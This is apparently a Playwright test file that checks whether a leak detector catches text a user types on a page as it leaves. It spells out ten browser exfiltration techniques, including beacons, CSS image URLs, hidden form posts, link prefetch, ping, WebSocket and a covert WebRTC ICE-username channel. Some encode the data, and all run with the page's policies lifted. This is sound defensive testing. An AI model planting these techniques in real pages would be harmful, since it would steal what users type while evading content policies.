import { readFileSync } from 'node:fs';
import { changingSite } from '../support/changing-site.ts';
import { findMarks } from '../support/find-marks.ts';
import { type Listener, listen } from '../support/listener.ts';
import { MarkedLife } from '../support/marked-life.ts';
import { recordNetwork } from '../support/network-record.ts';
import { test as base, expect, Visitor } from '../support/test.ts';

const test = base.extend<{ readonly listener: Listener; readonly bare: string }>({
  // The page without its policies.
  // oxlint-disable-next-line no-empty-pattern
  bare: async ({}, use) => {
    const site = await changingSite();
    const body = readFileSync('dist/client/index.html', 'utf8');
    site.answer((path) => (path === '/' ? { headers: { 'content-type': 'text/html' }, body } : undefined));
    await use(site.address);
    await site.close();
  },
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads the names of fixtures from it
  listener: async ({}, use) => {
    const listener = await listen();
    await use(listener);
    listener.stop();
  },
});

interface Leak {
  readonly typed: string;
  readonly address: string;
  readonly port: number;
}

/** Ten ways to send what was typed, each in another notation. They run in the page, so that each is on its own. */
const WAYS: Readonly<Record<string, (leak: Leak) => unknown>> = {
  fetch: ({ typed, address }) => fetch(address, { method: 'POST', body: JSON.stringify({ typed }) }),
  'a beacon': ({ typed, address }) => navigator.sendBeacon(address, btoa(`1${encodeURIComponent(typed)}`)),
  'an image': ({ typed, address }) => {
    new Image().src = `${address}/?${typed.toUpperCase()}`;
  },
  'a style': ({ typed, address }) => {
    const digits = Array.from(new TextEncoder().encode(typed), (byte) => byte.toString(16).padStart(2, '0'));
    document.body.style.backgroundImage = `url(${address}/${digits.join('')}.png)`;
  },
  'a form': ({ typed, address }) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'hidden' });
    const form = Object.assign(document.createElement('form'), {
      action: address,
      method: 'post',
      target: 'hidden',
    });
    form.append(Object.assign(document.createElement('input'), { name: 'typed', value: typed }));
    document.body.append(frame, form);
    form.submit();
  },
  'a navigation': ({ typed, address }) => {
    const escaped = Array.from(typed, (letter) => `%${(letter.codePointAt(0) ?? 0).toString(16)}`);
    location.href = `${address}/${escaped.join('')}`;
  },
  'a prefetch': ({ typed, address }) =>
    document.head.append(
      Object.assign(document.createElement('link'), {
        rel: 'prefetch',
        href: `${address}/${btoa(`12${encodeURIComponent(typed)}`)}`,
      }),
    ),
  WebRTC: async ({ typed, port }) => {
    const connection = new RTCPeerConnection();
    connection.createDataChannel('typed');
    await connection.setLocalDescription(await connection.createOffer());
    // The name that the other side is given is in each packet to it.
    const name = typed.replaceAll(/[^A-Za-z]/g, '');
    const sdp = (connection.localDescription?.sdp ?? '')
      .replaceAll(/a=candidate.*\r\n/g, '')
      .replace(/a=ice-ufrag:.*/, `a=ice-ufrag:${name}`)
      .replace(/a=setup:.*/, 'a=setup:active');
    await connection.setRemoteDescription({ type: 'answer', sdp });
    await connection.addIceCandidate({
      candidate: `candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host`,
      sdpMLineIndex: 0,
    });
  },
  'a WebSocket': ({ typed, address }) => {
    const socket = new WebSocket(address.replace('http', 'ws'));
    const letters = Uint16Array.from(typed, (letter) => letter.charCodeAt(0));
    socket.addEventListener('open', () => socket.send(letters));
  },
  'the ping of a link': ({ typed, address }) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: `${address}/?${typed}` });
    document.body.append(link);
    link.click();
  },
};

/**
 * Typed marks are found wherever they leave. The page's policies would refuse most of these ways
 * (`enforced.spec.ts`), so that they are lifted.
 */
for (const [way, leak] of Object.entries(WAYS)) {
  test(`what is typed is found if it leaves by ${way}`, { tag: '@matrix' }, async ({ bare, listener }) => {
    const life = new MarkedLife();
    const network = await recordNetwork({ baseURL: bare });
    try {
      const { page } = network;
      const visitor = new Visitor(page);
      await visitor.open();
      await visitor.field('Activity 1 name').fill(life.word('Ski with', 'é'));
      const typed = await visitor.field('Activity 1 name').inputValue();
      await page
        .evaluate(leak, { typed, address: listener.address, port: listener.port })
        // The navigation may be over before.
        .catch(() => undefined);
      await expect.poll(() => listener.heard).not.toEqual([]);
      const { events } = await network.finish();
      expect(findMarks(events, life.marks)).not.toEqual([]);
    } finally {
      await network.remove();
    }
  });
}
